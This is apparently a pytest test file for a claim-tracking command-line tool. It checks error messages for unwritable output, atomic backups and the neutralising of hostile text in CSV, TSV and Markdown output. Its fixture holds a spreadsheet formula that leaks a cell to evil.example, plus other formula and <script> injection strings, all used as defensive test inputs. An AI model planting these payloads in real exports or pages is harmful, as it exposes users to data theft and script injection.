"""Output that cannot be written is one line, not a traceback, and a backup
is whole or absent; output stays what it claims to be (CSV, TSV, GitHub
Markdown), whatever the stored text holds."""

from __future__ import annotations

import errno
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from sqlalchemy import Engine

from tests.conftest import Runner, unchanged
from tests.test_hostile import refused

FULL = Path("/dev/full")
needs_full = pytest.mark.skipif(not FULL.exists(), reason="/dev/full is Linux's")


# -- output that cannot be written -----------------------------------------------------------


def test_export_to_a_folder_or_over_a_file_is_one_line(
    seeded: Engine, run: Runner, tmp_path: Path
) -> None:
    """IsADirectoryError and FileExistsError were tracebacks."""
    (tmp_path / "taken").write_text("not a folder", encoding="utf-8")
    with unchanged(seeded):
        refused(run("export", "-o", str(tmp_path)), f"cannot write {tmp_path}: it is a folder")
        for fmt in ("claimreview", "json"):
            refused(run("export", "-f", fmt, "-o", str(tmp_path)), "it is a folder")
        for fmt in ("csv", "yaml"):
            refused(
                run("export", "-f", fmt, "-o", str(tmp_path / "taken")),
                f"-f {fmt} writes a folder of files; {tmp_path / 'taken'} is a file",
            )
        refused(run("report", "-o", str(tmp_path)), str(tmp_path))
    assert (tmp_path / "taken").read_text("utf-8") == "not a folder"


@needs_full
@pytest.mark.parametrize(
    "args",
    [["export", "-o", str(FULL)], ["export", "-f", "claimreview", "-o", str(FULL)],
     ["report", "-o", str(FULL)]],
    ids=["json", "claimreview", "report"],
)  # fmt: skip
def test_a_full_device_is_one_line(seeded: Engine, run: Runner, args: list[str]) -> None:
    with unchanged(seeded):
        refused(run(*args), f"cannot write {FULL}: No space left on device")


@needs_full
@pytest.mark.parametrize(
    "args", [["claims"], ["claims", "-f", "json"], ["export"], ["report"], ["show", "x"]]
)
def test_a_full_standard_output_is_one_line(seeded: Engine, args: list[str]) -> None:
    """`tracker claims > /dev/full`: Python's own flush at exit printed
    'Exception ignored ... OSError: [Errno 28]'."""
    url = seeded.url.render_as_string(hide_password=False)
    with unchanged(seeded), FULL.open("w") as full:
        done = subprocess.run(
            [sys.executable, "-m", "tracker", "--db", url, *args],
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            timeout=120,
        )
    lines = done.stderr.splitlines()
    if args == ["show", "x"]:  # an error before any output: said as it is
        assert done.returncode == 1 and lines[-1].startswith("Error: no claim")
        return
    assert done.returncode == 1, done.stderr
    assert lines == ["Error: cannot write standard output: No space left on device"]


def test_a_backup_is_whole_or_absent(
    seeded: Engine, run: Runner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`export -o backup.json` on a full disk left a truncated, invalid file
    (measured on a 100 KiB tmpfs: 24,576 of 61,612 bytes). It is written to a
    temporary file beside it and renamed once whole."""
    from tracker.exchange import export as exporting

    backup = tmp_path / "backup.json"
    assert run("export", "--claim", "miller-arms-charge", "-o", str(backup)).exit_code == 0
    old = backup.read_bytes()
    real = exporting.write_json

    def disk_fills(session: object, scope: object, write: object) -> None:
        def failing(text: str) -> None:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

        assert callable(write)
        write('{"tracker_export": 1, "act')  # some of it reaches the disk
        real(session, scope, failing)  # type: ignore[arg-type]

    monkeypatch.setattr(exporting, "write_json", disk_fills)
    with unchanged(seeded):
        refused(run("export", "-o", str(backup)), f"cannot write {backup}: No space left")
    assert backup.read_bytes() == old
    assert not list(tmp_path.glob(".backup.json.*"))  # no temporary file left
    monkeypatch.undo()
    # Written whole, through a link: the file linked to is replaced, the link kept.
    link = tmp_path / "latest.json"
    link.symlink_to(backup)
    assert run("export", "-o", str(link)).exit_code == 0
    assert link.is_symlink() and len(backup.read_bytes()) > len(old)
    umask = os.umask(0)
    os.umask(umask)
    assert backup.stat().st_mode & 0o777 == 0o666 & ~umask  # not mkstemp's private 0600


# -- output that stays what it claims to be --------------------------------------------------

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1, "click")', "+SUM(A1:A9)", "@SUM(A1)"]


@pytest.fixture
def hostile_text(seeded: Engine, run: Runner) -> Runner:
    """Claims whose text a spreadsheet, a Markdown table or TSV would take
    for something else; the loader admits them (they are text)."""
    texts = {
        "formula-claim-1": FORMULAS[0], "formula-claim-2": FORMULAS[1],
        "formula-claim-3": FORMULAS[2],
        "table-breaking-claim": "A | B | C\nsecond line <script>alert(1)</script> \\| end",
        "tabbed-claim": "\tIndented, with a \\ backslash\r\nand a\tsecond line",
    }  # fmt: skip
    for key, claim_text in texts.items():
        added = run(
            "add", "claim", "--by", "Miller", "--text", claim_text, "--id", key, "--new",
            "--source", "star-advertiser-20240618", "--quote", "Moscow and Pyongyang",
        )  # fmt: skip
        assert added.exit_code == 0, added.output
    return run


@pytest.mark.parametrize("listing", [["claims"], ["contested"], ["timeline"], ["actors"]])
def test_every_csv_listing_neutralises_formulas(hostile_text: Runner, listing: list[str]) -> None:
    """`-f csv` listings emitted =HYPERLINK(...) unprefixed, though `export
    -f csv` neutralised it: one rule for every CSV."""
    import csv
    import io

    rows = list(csv.reader(io.StringIO(hostile_text(*listing, "-f", "csv").stdout)))
    assert rows
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    if listing == ["claims"]:
        cells = {cell for row in rows for cell in row}
        assert {"'" + f for f in FORMULAS} <= cells


def test_a_github_table_keeps_its_columns_and_no_html(hostile_text: Runner) -> None:
    """A cell holding | or a line break split the table (12 cells under a
    7-column header) and <script> passed through."""
    from markdown_it import MarkdownIt

    out = hostile_text("claims", "-f", "github").stdout
    tokens = MarkdownIt("commonmark").enable("table").parse(out)
    rows: list[list[str]] = []
    for n, token in enumerate(tokens):
        if token.type == "tr_open":
            rows.append([])
        elif token.type == "inline" and tokens[n - 1].type in ("th_open", "td_open"):
            rows[-1].append(token.content)
        assert token.type not in ("html_block", "html_inline")
        assert not any(c.type in ("html_inline", "html_block") for c in token.children or [])
    assert {len(row) for row in rows} == {7}
    [breaking] = [row for row in rows if row[0] == "table-breaking-claim"]
    rendered = MarkdownIt("commonmark").enable("table").renderInline(breaking[1])
    assert rendered == ("A | B | C second line &lt;script&gt;alert(1)&lt;/script&gt; \\| end")


def test_tsv_is_exact(hostile_text: Runner) -> None:
    """A leading tab became a space, a line break a space; TSV is documented
    as exact: \\\\, \\t, \\n and \\r stand for them."""
    import json

    def unescape(cell: str) -> str:
        escapes = {"\\\\": "\\", "\\t": "\t", "\\n": "\n", "\\r": "\r"}
        return re.sub(r"\\[\\tnr]", lambda m: escapes[m[0]], cell)

    lines = hostile_text("claims", "-f", "tsv").stdout.rstrip("\n").split("\n")
    header = lines[0].split("\t")
    rows = [dict(zip(header, map(unescape, line.split("\t")), strict=True)) for line in lines[1:]]
    stored = {c["id"]: c["text"] for c in json.loads(hostile_text("claims", "-f", "json").stdout)}
    assert {r["ID"]: r["Claim"] for r in rows} == stored
    assert stored["tabbed-claim"].startswith("\t")


def test_one_huge_value_costs_a_table_a_few_lines(
    seeded: Engine, run: Runner, tmp_path: Path
) -> None:
    """A claim of one 1,000,000-character word made `tracker claims` print
    317 MB in 1.2 GB of memory (10M: MemoryError); a table shows 2,000
    characters of a value and says how long it is."""
    import json

    from tracker.limits import MAX_CELL

    path = tmp_path / "long.yaml"
    path.write_text(
        "claims:\n- id: long-word\n  text: " + "w" * 1_000_000 + "\n  claimants: [matthew-miller]\n"
        "  appearances:\n  - source: star-advertiser-20240618\n    quote: Moscow and Pyongyang\n",
        encoding="utf-8",
    )
    assert run("load", str(path)).exit_code == 0
    for args in (["claims"], ["timeline"], ["by-actor", "Miller"], ["claims", "-f", "github"]):
        out = run(*args).stdout
        assert "(1,000,000 characters; -f json shows all)" in out
        # A grid's lines wrap its words; a Markdown row holds the cut value whole.
        assert len(out) < 200_000 and max(map(len, out.splitlines())) < 4 * MAX_CELL, args
    [whole] = [c for c in json.loads(run("claims", "-f", "json").stdout) if c["id"] == "long-word"]
    assert whole["text"] == "w" * 1_000_000
